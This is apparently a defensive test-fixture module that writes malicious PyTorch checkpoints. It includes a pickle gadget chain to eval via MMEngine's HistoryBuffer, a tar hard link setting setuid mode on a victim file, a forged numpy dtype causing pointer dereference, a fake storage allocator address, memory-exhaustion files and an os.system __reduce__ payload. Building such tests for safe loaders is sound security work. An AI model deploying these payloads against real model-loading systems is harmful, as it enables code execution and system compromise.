"""Hand-made checkpoint files that try to run code, write files or crash
the process that loads them, built from pickle opcodes.

Each ``write_*`` function writes one attack to a path; the tests load them
in a subprocess and check that nothing happened. The pickles are protocol 2
(what ``torch.save`` writes), wrapped in the zip layout of ``torch.save``
(``archive/data.pkl``, ``archive/version``, ``archive/byteorder``), so the
zip-record check lets them through to the unpickler.
"""
import io
import os
import pickle
import struct
import tarfile
import zipfile
from typing import List, Tuple

import numpy as np


class Program:
    """A protocol-2 pickle written opcode by opcode."""

    def __init__(self) -> None:
        self.out = io.BytesIO()
        self.out.write(pickle.PROTO + b'\x02')
        self.memo = 0

    def op(self, code: bytes) -> 'Program':
        self.out.write(code)
        return self

    def global_(self, module: str, name: str) -> 'Program':
        return self.op(pickle.GLOBAL + f'{module}\n{name}\n'.encode())

    def str_(self, text: str) -> 'Program':
        data = text.encode('utf-8')
        return self.op(pickle.BINUNICODE + struct.pack('<I', len(data)) +
                       data)

    def int_(self, value: int) -> 'Program':
        return self.op(pickle.BININT + struct.pack('<i', value))

    def bytes_(self, data: bytes) -> 'Program':
        # protocol 2 writes bytes as _codecs.encode(text, 'latin1')
        self.global_('_codecs', 'encode')
        self.str_(data.decode('latin1')).str_('latin1')
        return self.op(pickle.TUPLE2 + pickle.REDUCE)

    def put(self) -> int:
        """Memoize the top of the stack; returns its memo index."""
        index = self.memo
        self.memo += 1
        self.op(pickle.BINPUT + bytes([index]))
        return index

    def get(self, index: int) -> 'Program':
        return self.op(pickle.BINGET + bytes([index]))

    def call(self, func: int, *args) -> 'Program':
        """``memo[func](*args)``; each arg is a memo index or a callable
        that pushes the value."""
        self.get(func)
        self.op(pickle.MARK)
        for arg in args:
            self.get(arg) if isinstance(arg, int) else arg(self)
        return self.op(pickle.TUPLE + pickle.REDUCE)

    def data(self) -> bytes:
        return self.out.getvalue() + pickle.STOP


def write_torch_zip(path: str, data_pkl: bytes) -> None:
    """A zip of ``torch.save``'s layout holding ``data_pkl``."""
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as archive:
        archive.writestr('archive/data.pkl', data_pkl)
        archive.writestr('archive/byteorder', 'little')
        archive.writestr('archive/version', '3\n')


def _result_dict(p: Program, key: str, value: int) -> None:
    """Leave ``{'state_dict': {}, key: memo[value]}`` on the stack."""
    p.op(pickle.EMPTY_DICT + pickle.MARK)
    p.str_('state_dict').op(pickle.EMPTY_DICT)
    p.str_(key).get(value)
    p.op(pickle.SETITEMS)


def write_history_buffer_chain(path: str, marker: str) -> None:
    """The ``HistoryBuffer`` / ``getattr`` / ``_rebuild_from_type_v2``
    chain to ``eval``, which creates ``marker``.

    1. A ``HistoryBuffer`` whose state adds ``__class__`` and
       ``__getattribute__`` to the statistics dict all HistoryBuffers share
       (MMEngine >= 0.8's ``__setstate__`` updates it).
    2. A ``getattr`` limited to names in that dict then returns ``type``
       and ``object.__getattribute__``.
    3. ``_rebuild_from_type_v2(func, new_type, args, state)`` calls
       ``func(*args)``: with ``type`` it gives the types it needs as
       ``new_type``, with ``object.__getattribute__`` it walks from
       ``HistoryBuffer.min.__globals__`` to ``__builtins__['eval']``.
    """
    p = Program()
    p.global_('mmengine.logging.history_buffer', 'HistoryBuffer')
    hb = p.put()
    p.global_('__builtin__', 'getattr')
    ga = p.put()
    p.global_('torch._tensor', '_rebuild_from_type_v2')
    rt = p.put()
    p.global_('_codecs', 'encode')
    enc = p.put()
    # 1. pollute HistoryBuffer._statistics_methods
    p.get(hb).op(pickle.EMPTY_TUPLE + pickle.NEWOBJ)
    p.op(pickle.EMPTY_DICT + pickle.MARK).str_('statistics_methods')
    p.op(pickle.EMPTY_DICT + pickle.MARK)
    p.str_('__class__').int_(0).str_('__getattribute__').int_(0)
    p.op(pickle.SETITEMS + pickle.SETITEMS + pickle.BUILD)
    # 2. the getattr
    p.call(ga, hb, lambda q: q.str_('__class__'))
    typ = p.put()
    p.call(ga, hb, lambda q: q.str_('__getattribute__'))
    oga = p.put()
    p.call(ga, hb, lambda q: q.str_('min'))
    hb_min = p.put()

    def empty(q):
        q.op(pickle.EMPTY_DICT)

    def tup(*items):  # pushes a tuple of memo indices / pushers
        def push(q):
            q.op(pickle.MARK)
            for item in items:
                q.get(item) if isinstance(item, int) else item(q)
            q.op(pickle.TUPLE)
        return push

    def of(value):  # _rebuild_from_type_v2(type, type, (value,), {})
        return lambda q: q.call(rt, typ, typ, tup(value), empty)

    of(empty)(p)
    dict_t = p.put()
    of(lambda q: q.get(enc))(p)
    builtin_t = p.put()
    of(lambda q: q.str_(''))(p)
    str_t = p.put()
    p.call(rt, oga, dict_t, tup(hb_min, lambda q: q.str_('__globals__')),
           empty)
    glob = p.put()
    p.call(rt, oga, builtin_t, tup(glob, lambda q: q.str_('get')), empty)
    glob_get = p.put()
    p.call(rt, glob_get, dict_t, tup(lambda q: q.str_('__builtins__')),
           empty)
    builtins_ = p.put()
    p.call(rt, oga, builtin_t, tup(builtins_, lambda q: q.str_('get')),
           empty)
    b_get = p.put()
    p.call(rt, b_get, builtin_t, tup(lambda q: q.str_('eval')), empty)
    eval_ = p.put()
    code = (f"__import__('pathlib').Path({marker!r}).touch() or "
            "'ran eval'")
    p.call(rt, eval_, str_t, tup(lambda q: q.str_(code)), empty)
    result = p.put()
    _result_dict(p, 'x', result)
    write_torch_zip(path, p.data())


def write_tar_hard_link(path: str, victim: str) -> None:
    """torch's oldest format, a tar whose ``storages`` member is a hard
    link to ``victim`` with mode 0o6777 and uid 4242: extracting it (as
    torch's legacy loader does) changes the victim's mode (and owner, as
    root)."""
    with tarfile.open(path, 'w', format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo('storages')
        info.type = tarfile.LNKTYPE
        info.linkname = victim
        info.mode = 0o6777
        info.uid = info.gid = 4242
        tar.addfile(info)


def write_forged_dtype(path: str) -> None:
    """A void dtype whose ``BUILD`` state gives it an object field at
    offset 0, then an array of it from raw bytes in a list: reading the
    array dereferences the bytes as an object pointer."""
    core = 'numpy._core' if int(np.__version__.split('.')[0]) >= 2 \
        else 'numpy.core'
    p = Program()
    p.global_(f'{core}.multiarray', '_reconstruct')
    rec = p.put()
    p.global_('numpy', 'ndarray')
    nd = p.put()
    p.global_('numpy', 'dtype')
    dt = p.put()

    def flags(q):
        q.op(pickle.NEWFALSE + pickle.NEWTRUE)

    p.call(dt, lambda q: q.str_('O8'), flags)
    obj = p.put()
    p.call(dt, lambda q: q.str_('V8'), flags)
    # state: (3, '|', None, ('a',), {'a': (object dtype, 0)}, 8, 1, 0)
    p.op(pickle.MARK).int_(3).str_('|').op(pickle.NONE)
    p.str_('a').op(pickle.TUPLE1 + pickle.EMPTY_DICT).str_('a').get(obj)
    p.int_(0).op(pickle.TUPLE2 + pickle.SETITEM)
    p.int_(8).int_(1).int_(0).op(pickle.TUPLE + pickle.BUILD)
    forged = p.put()
    p.call(rec, nd, lambda q: q.int_(0).op(pickle.TUPLE1),
           lambda q: q.bytes_(b'b'))
    p.op(pickle.MARK).int_(1).int_(2).op(pickle.TUPLE1)
    p.get(forged).op(pickle.NEWFALSE).bytes_(b'\x41' * 16)
    p.op(pickle.TUPLE + pickle.BUILD)
    array = p.put()
    p.op(pickle.EMPTY_LIST).get(array).op(pickle.APPEND)
    items = p.put()
    _result_dict(p, 'x', items)
    write_torch_zip(path, p.data())


def write_allocator_storage(path: str) -> None:
    """``UntypedStorage.__new__(cls, 16, allocator=<int>)`` through
    ``NEWOBJ_EX``: torch takes the int as an allocator's address."""
    p = Program()
    p.global_('torch.storage', 'UntypedStorage')
    p.op(pickle.MARK).int_(16).op(pickle.TUPLE)
    p.op(pickle.EMPTY_DICT).str_('allocator').int_(0x41414141)
    p.op(pickle.SETITEM + pickle.NEWOBJ_EX)
    storage = p.put()
    _result_dict(p, 'x', storage)
    write_torch_zip(path, p.data())


#: name -> (writer, what it needs: 'marker' or 'victim' or None)
ATTACKS: List[Tuple[str, str]] = [
    ('history_buffer_chain', 'marker'),
    ('tar_hard_link', 'victim'),
    ('forged_dtype', None),
    ('allocator_storage', None),
]


def write(name: str, path: str, target: str = '') -> None:
    """Write attack ``name`` to ``path`` (``target``: the marker or victim
    file it aims at)."""
    writer = globals()[f'write_{name}']
    if name in ('history_buffer_chain', 'tar_hard_link'):
        writer(path, target)
    else:
        writer(path)


def victim_file(directory: str) -> str:
    victim = os.path.join(directory, 'victim.txt')
    with open(victim, 'w') as f:
        f.write('mine\n')
    os.chmod(victim, 0o644)
    return victim


# ---- issue 27 converters and inference routes ----
#: The blocks per stage of RLA-ResNet-50.
_R50_BLOCKS = (3, 4, 6, 3)


def r50_names(prefix: str, one) -> dict:
    """The keys the converters infer an RLA-ResNet-50 from, all views of
    the one stored element ``one``."""
    return {
        f'{prefix}stages.{s}.{b}.conv3.weight': one
        for s, n in enumerate(_R50_BLOCKS) for b in range(n)
    }


def write_wide_hidden_state(path: str, channels: int = 100000) -> None:
    """An authors' ImageNet file (about 1 KB) whose ``conv_outs.0.weight``
    is a stride-0 view of one stored float claiming ``channels`` hidden
    channels: a converter that builds the backbone from the shape asks
    for hundreds of gigabytes."""
    import torch
    one = torch.zeros(1)
    state = r50_names('module.', one)
    state['module.conv_outs.0.weight'] = one.expand(channels, 256, 1, 1)
    torch.save(dict(epoch=1, arch='rla_resnet50', state_dict=state), path)


def write_many_classes(path: str, num_classes: int = 50000) -> None:
    """An mmdetection 2.x Faster R-CNN file of a few hundred KB naming
    ``num_classes`` classes: a converter that builds the detector with
    them asks for gigabytes of heads."""
    import torch
    one = torch.zeros(1)
    state = r50_names('backbone.', one)
    # stored in full: only the class count is a claim
    state['backbone.conv_outs.0.weight'] = torch.zeros(32, 256, 1, 1)
    state['roi_head.bbox_head.fc_cls.weight'] = one
    meta = dict(mmdet_version='2.28.2',
                CLASSES=tuple(f'c{i}' for i in range(num_classes)))
    torch.save(dict(state_dict=state, meta=meta), path)


class RunsCode:
    """Pickled as ``os.system(command)``: loading it runs the command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command, ))


def write_reduce_payload(path: str, marker: str, state_dict=None) -> None:
    """A ``torch.save`` file holding ``state_dict`` and an object whose
    ``__reduce__`` creates ``marker`` when unpickled by torch's full
    unpickler (``weights_only=False``)."""
    import torch
    torch.save(dict(state_dict=state_dict or {}, meta={},
                    x=RunsCode(f'touch {marker}')), path)
